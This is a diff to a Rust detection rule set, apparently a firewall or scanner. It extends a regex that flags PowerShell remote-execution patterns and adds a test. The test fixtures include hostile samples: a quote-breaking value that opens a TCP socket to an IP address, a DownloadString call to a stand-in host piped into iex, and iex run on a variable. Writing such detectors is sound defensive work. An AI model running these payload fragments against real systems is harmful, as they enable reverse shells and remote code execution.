@@ -272,7 +272,9 @@ impl Rce {
             ),
             (
                 RCE_WINDOWS,
-                r"\b(?:invoke-expression|invoke-webrequest|downloadstring|downloadfile|start-process|new-object\s+(?:system\.)?net\.webclient|iex\s*\()",
+                // PowerShell's downloaders, sockets (reverse shells) and expression runners, also
+                // fed by a pipe or a variable (`... | iex`, `iex $d`).
+                r"\b(?:invoke-expression|invoke-webrequest|downloadstring|downloadfile|start-process|new-object\s+(?:system\.)?net\.(?:webclient|sockets\.(?:tcpclient|udpclient|tcplistener))|iex\s*[($]|\|\s*iex\b)",
             ),
             (
                 RCE_WINDOWS,
@@ -1416,6 +1418,30 @@ mod tests {
                 "if3 a==b foo",
                 "if you equal me",
             ],
+        );
+    }
+
+    #[test]
+    fn powershell_sockets_and_piped_expressions() {
+        rule(
+            RCE_WINDOWS,
+            true,
+            Kind::Value,
+            "json:/proxy",
+            1,
+            &[
+                "x'; $c=New-Object System.Net.Sockets.TCPClient('10.66.0.9',443);$s=$c.GetStream()",
+                "(New-Object Net.WebClient).DownloadString('http://x.example/a') | iex",
+                "$r=(iex $d 2>&1|Out-String)",
+            ],
+        );
+        rule(
+            RCE_WINDOWS,
+            false,
+            Kind::Value,
+            "json:/text",
+            1,
+            &["the iex index fell 2%", "IEX Cloud pricing | compare"],
         );
     }
 
